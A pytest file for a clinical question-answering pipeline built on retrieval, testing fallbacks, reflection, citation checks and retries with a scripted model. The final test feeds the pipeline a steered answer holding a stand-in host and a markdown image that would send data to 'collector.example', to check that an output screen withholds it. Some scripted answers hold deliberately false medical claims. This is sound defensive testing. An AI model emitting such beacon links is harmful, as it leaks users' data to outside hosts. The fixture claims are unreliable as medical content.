"""The pipelines' control flow on real PostgreSQL with a scripted model: fallbacks, the
reflection loop, citation checking, and what each mode costs in model calls."""

from __future__ import annotations

import json
from collections.abc import Mapping, Sequence
from typing import Any, cast

import pytest

from clinrag.components import Models, build_query_service
from clinrag.domain import NOT_FOUND, ParsedDocument, Section
from clinrag.errors import LLMError, RetrievalError
from clinrag.ingest.ingestor import Ingestor
from clinrag.llm.base import Message, PromptRef
from clinrag.pipelines.service import QueryService
from clinrag.pipelines.trace import Trace
from clinrag.retrieval.access import EVERY_LABEL
from clinrag.retrieval.hybrid import HybridRetriever
from clinrag.retrieval.retriever import Retriever
from clinrag.setting_groups.pipeline import PipelineSettings
from clinrag.settings import Settings
from tests.conftest import TEST_PIPELINE
from tests.fakes import ScriptedLLM, fake_safeguards

CORPUS = [
    ParsedDocument(
        source="g/metformin.md",
        title="Metformin",
        sections=(Section("Metformin is the first-line drug for type 2 diabetes in adults."),),
        metadata={},
    ),
    ParsedDocument(
        source="g/insulin.md",
        title="Insulin",
        sections=(
            Section("Basal insulin is added when metformin fails to reach the HbA1c target."),
        ),
        metadata={},
    ),
]
GROUNDED = "Metformin is the first-line drug for type 2 diabetes [1]."


def _json(**values: Any) -> str:
    return json.dumps(values)


async def _service(
    ingestor: Ingestor,
    retriever: HybridRetriever,
    models: Models,
    store_settings: Settings,
    llm: ScriptedLLM,
    **pipeline: Any,
) -> QueryService:
    await ingestor.ingest(CORPUS)
    settings = store_settings.model_copy(
        update={"pipeline": PipelineSettings(**{**TEST_PIPELINE.model_dump(), **pipeline})}
    )
    return build_query_service(retriever, models, fake_safeguards(settings, models), llm, settings)


@pytest.fixture
def deps(
    ingestor: Ingestor, retriever: HybridRetriever, models: Models, store_settings: Settings
) -> tuple[Ingestor, HybridRetriever, Models, Settings]:
    return ingestor, retriever, models, store_settings


def _first_passage_number(messages: Sequence[Message], title: str) -> int:
    for line in messages[-1].content.splitlines():
        if line.startswith("[") and line.endswith(title):
            return int(line[1 : line.index("]")])
    raise AssertionError(f"{title} not in the evidence")


async def test_classify_failure_falls_back_to_simple_and_skips_decomposition(deps: Any) -> None:
    llm = ScriptedLLM([LLMError("down", transient=True), GROUNDED])
    service = await _service(*deps, llm, classifier="model")
    trace = Trace()
    answer = await service.answer(
        "first-line drug for type 2 diabetes?", mode="auto", trace=trace, access=EVERY_LABEL
    )
    assert answer.query_type == "SIMPLE"
    assert answer.pipeline == "classical"
    classify = next(s for s in trace.steps if s.name == "classify")
    assert classify.status == "fallback"
    assert classify.details["fallback_reason"] == "llm_unavailable"
    assert [c.prompt.id for c in llm.calls] == ["classify", "synthesize"]


@pytest.mark.parametrize("mode", ["auto", "agentic"])
async def test_the_embedding_classifier_types_the_question_without_a_model_call(
    deps: Any, mode: str
) -> None:
    def respond(
        messages: Sequence[Message], prompt: PromptRef, schema: Mapping[str, Any] | None
    ) -> str:
        if prompt.id == "classify":
            raise AssertionError("the embedding classifier asked the model")
        if prompt.id == "decompose":
            return _json(sub_queries=["metformin for diabetes", "insulin for diabetes"])
        return GROUNDED

    llm = ScriptedLLM(respond=respond)
    service = await _service(*deps, llm, reflect_below_confidence=0.0)
    trace = Trace()
    answer = await service.answer(
        "Is metformin better than insulin as first-line drug for type 2 diabetes?",
        mode=cast(Any, mode),
        trace=trace,
        access=EVERY_LABEL,
    )
    classify = next(s for s in trace.steps if s.name == "classify")
    assert classify.status == "ok"
    assert classify.details["classifier"] == "embedding"
    assert classify.details["query_type"] == answer.query_type
    assert 0.25 < classify.details["probability"] <= 1
    assert "llm" not in classify.details
    assert "classify" not in [c.prompt.id for c in llm.calls]


async def test_malformed_decomposition_falls_back_to_the_question(deps: Any) -> None:
    llm = ScriptedLLM([_json(type="COMPARATIVE"), "not json at all", GROUNDED])
    service = await _service(*deps, llm, classifier="model", reflect_below_confidence=0.0)
    trace = Trace()
    answer = await service.answer(
        "metformin versus insulin?", mode="agentic", trace=trace, access=EVERY_LABEL
    )
    assert answer.query_type == "COMPARATIVE"
    assert answer.sub_queries == ("metformin versus insulin?",)
    assert next(s for s in trace.steps if s.name == "decompose").status == "fallback"


async def test_reflection_refines_at_most_three_times_and_keeps_the_best(deps: Any) -> None:
    def respond(
        messages: Sequence[Message], prompt: PromptRef, schema: Mapping[str, Any] | None
    ) -> str:
        if prompt.id == "classify":
            return _json(type="SIMPLE")
        if prompt.id == "reflect":
            return _json(verdict="INSUFFICIENT", refined_query=f"refined {len(llm.calls)}")
        if len(llm.calls_for("synthesize")) == 1:
            return GROUNDED  # the best draft: one grounded sentence
        return "Basal insulin is added later [1]. Unsupported claim about aspirin [2]."

    llm = ScriptedLLM(respond=respond)
    service = await _service(*deps, llm, classifier="model", reflect_below_confidence=1.0)
    trace = Trace()
    answer = await service.answer(
        "first-line drug for type 2 diabetes?", mode="agentic", trace=trace, access=EVERY_LABEL
    )
    assert answer.iterations == 3
    assert len(llm.calls_for("synthesize")) == 3
    assert len(llm.calls_for("reflect")) == 2
    assert answer.text == GROUNDED
    assert len(answer.sub_queries) == 3


async def test_a_confident_answer_is_not_reflected_on(deps: Any) -> None:
    llm = ScriptedLLM(
        respond=lambda m, p, s: _json(type="SIMPLE") if p.id == "classify" else GROUNDED
    )
    service = await _service(*deps, llm, classifier="model", reflect_below_confidence=0.0)
    answer = await service.answer(
        "first-line drug for type 2 diabetes?", mode="agentic", trace=Trace(), access=EVERY_LABEL
    )
    assert answer.iterations == 1
    assert [c.prompt.id for c in llm.calls] == ["classify", "synthesize"]


async def test_unsupported_and_unknown_citations_are_removed_and_flagged(deps: Any) -> None:
    def respond(
        messages: Sequence[Message], prompt: PromptRef, schema: Mapping[str, Any] | None
    ) -> str:
        n = _first_passage_number(messages, "Metformin")
        grounded = f"Metformin is the first-line drug for type 2 diabetes [{n}][9]."
        return f"{grounded} Aspirin cures diabetes [{n}]."

    llm = ScriptedLLM(respond=respond)
    service = await _service(*deps, llm)
    answer = await service.answer(
        "first-line drug for type 2 diabetes?", mode="classical", trace=Trace(), access=EVERY_LABEL
    )
    assert answer.found
    assert "Aspirin" not in answer.text
    assert "[9]" not in answer.text
    assert "citations_removed" in answer.flags
    assert [c.title for c in answer.citations] == ["Metformin"]
    assert 0 < answer.confidence <= 1


async def test_an_answer_with_no_supported_citation_falls_back_to_the_quoted_evidence(
    deps: Any,
) -> None:
    llm = ScriptedLLM(["Aspirin cures everything [1]."])
    service = await _service(*deps, llm)
    trace = Trace()
    answer = await service.answer(
        "first-line drug for type 2 diabetes?", mode="classical", trace=trace, access=EVERY_LABEL
    )
    assert answer.found
    assert answer.kind == "extractive"
    assert "Aspirin" not in answer.text
    assert "Metformin is the first-line drug for type 2 diabetes in adults." in answer.text
    assert answer.citations
    names = [s.name for s in trace.steps]
    assert names[-5:] == [
        "check_citations",
        "screen_output",
        "extract",
        "check_citations",
        "output_scan",
    ]
    assert len(llm.calls) == 1  # the fallback quotes; it asks no model


async def test_not_found_only_when_no_evidence_bears_on_the_question(deps: Any) -> None:
    llm = ScriptedLLM([])
    service = await _service(*deps, llm, evidence_min_similarity=0.99)
    trace = Trace()
    answer = await service.answer(
        "first-line drug for type 2 diabetes?", mode="classical", trace=trace, access=EVERY_LABEL
    )
    assert not answer.found
    assert answer.kind == "not_found"
    assert answer.text.startswith(NOT_FOUND)
    assert answer.confidence == 0.0
    assert llm.calls == []
    synthesize = next(s for s in trace.steps if s.name == "synthesize")
    assert synthesize.details["skipped_llm"] == "no_evidence"


async def test_synthesis_failure_fails_the_request_and_the_trace_says_where(deps: Any) -> None:
    llm = ScriptedLLM([LLMError("down", transient=True)])
    service = await _service(*deps, llm)
    trace = Trace()
    with pytest.raises(LLMError):
        await service.answer(
            "first-line drug for type 2 diabetes?",
            mode="classical",
            trace=trace,
            access=EVERY_LABEL,
        )
    assert trace.steps[-1].name == "synthesize"
    assert trace.steps[-1].status == "failed"
    assert trace.steps[-1].details["error"] == "llm_unavailable"


class _StoreDown:
    """The real retriever behind a document store that drops its first ``failures`` requests."""

    def __init__(self, retriever: HybridRetriever, failures: int) -> None:
        self.retriever = retriever
        self.failures = failures
        self.calls = 0

    async def retrieve(self, *args: Any, **kwargs: Any) -> Any:
        self.calls += 1
        if self.calls <= self.failures:
            raise RetrievalError("the document store did not answer")
        return await self.retriever.retrieve(*args, **kwargs)

    async def document_passages(self, *args: Any, **kwargs: Any) -> Any:
        """The store is back by then: the first study's other chunks are read as usual."""
        return await self.retriever.document_passages(*args, **kwargs)


@pytest.mark.parametrize(
    ("failures", "found", "recorded"),
    [
        (1, True, [("retrieve", "failed"), ("retrieve_retry2", "ok")]),
        (2, False, [("retrieve", "failed"), ("retrieve_retry2", "failed")]),
    ],
    ids=["dropped once: retried", "stays down: fails after the attempts"],
)
async def test_a_retrieval_the_store_dropped_is_retried_and_each_attempt_recorded(
    deps: Any, failures: int, found: bool, recorded: list[tuple[str, str]]
) -> None:
    ingestor, retriever, models, settings = deps
    await ingestor.ingest(CORPUS)
    store = _StoreDown(retriever, failures)
    llm = ScriptedLLM([GROUNDED])
    service = build_query_service(
        cast(Retriever, store), models, fake_safeguards(settings, models), llm, settings
    )
    trace = Trace()
    question = "first-line drug for diabetes?"
    if found:
        assert (
            await service.answer(question, mode="classical", trace=trace, access=EVERY_LABEL)
        ).found
    else:
        with pytest.raises(RetrievalError):
            await service.answer(question, mode="classical", trace=trace, access=EVERY_LABEL)
        assert llm.calls == []
    assert store.calls == 2
    assert [(s.name, s.status) for s in trace.steps if s.name.startswith("retrieve")] == recorded


async def test_map_reduce_maps_each_passage_then_writes_from_the_facts(deps: Any) -> None:
    def respond(
        messages: Sequence[Message], prompt: PromptRef, schema: Mapping[str, Any] | None
    ) -> str:
        user = messages[-1].content
        if prompt.id == "map":
            relevant = "Metformin" in user
            facts = ["Metformin is the first-line drug for type 2 diabetes."] if relevant else []
            return _json(relevant=relevant, facts=facts)
        assert prompt.id == "reduce"
        return GROUNDED

    llm = ScriptedLLM(respond=respond)
    service = await _service(*deps, llm)
    trace = Trace()
    answer = await service.answer(
        "first-line drug for type 2 diabetes?",
        mode="classical",
        trace=trace,
        strategy="map_reduce",
        access=EVERY_LABEL,
    )
    assert answer.found
    assert answer.kind == "generated"
    maps = llm.calls_for("map")
    assert (
        len(maps) == next(s for s in trace.steps if s.name == "map_passages").details["map_calls"]
    )
    assert len(llm.calls_for("reduce")) == 1
    assert llm.calls_for("synthesize") == []
    assert [c.title for c in answer.citations] == ["Metformin"]
    assert "low_confidence" not in answer.flags


async def test_the_extractive_strategy_asks_no_model(deps: Any) -> None:
    llm = ScriptedLLM([])
    service = await _service(*deps, llm, synthesis="extractive")
    answer = await service.answer(
        "first-line drug for type 2 diabetes?", mode="classical", trace=Trace(), access=EVERY_LABEL
    )
    assert answer.found
    assert answer.kind == "extractive"
    assert llm.calls == []
    assert "Metformin is the first-line drug" in answer.text


@pytest.mark.parametrize(
    "address",
    ["www.evil-site.com", "![chart](collector.example/p.png?d=metformin)"],
)
async def test_an_answer_carrying_an_address_its_evidence_lacks_is_withheld_and_the_evidence_quoted(
    deps: Any, address: str
) -> None:
    # (A code with digits, "XK-2231", is already removed by the citation check: its number is
    # in no passage. An address, or a markdown image the reader's browser would fetch, passes
    # the check's thresholds; the screen stops it.)
    steered = f"Metformin is the first-line drug for type 2 diabetes in adults, {address} [1]."
    llm = ScriptedLLM([steered])
    service = await _service(*deps, llm)
    trace = Trace()
    answer = await service.answer(
        "first-line drug for type 2 diabetes?", mode="classical", trace=trace, access=EVERY_LABEL
    )
    assert address not in answer.text
    assert answer.kind == "extractive"
    assert "output_withheld" in answer.flags
    screen = next(s for s in trace.steps if s.name == "screen_output")
    assert screen.details["reasons"] == ["unknown_contact"]
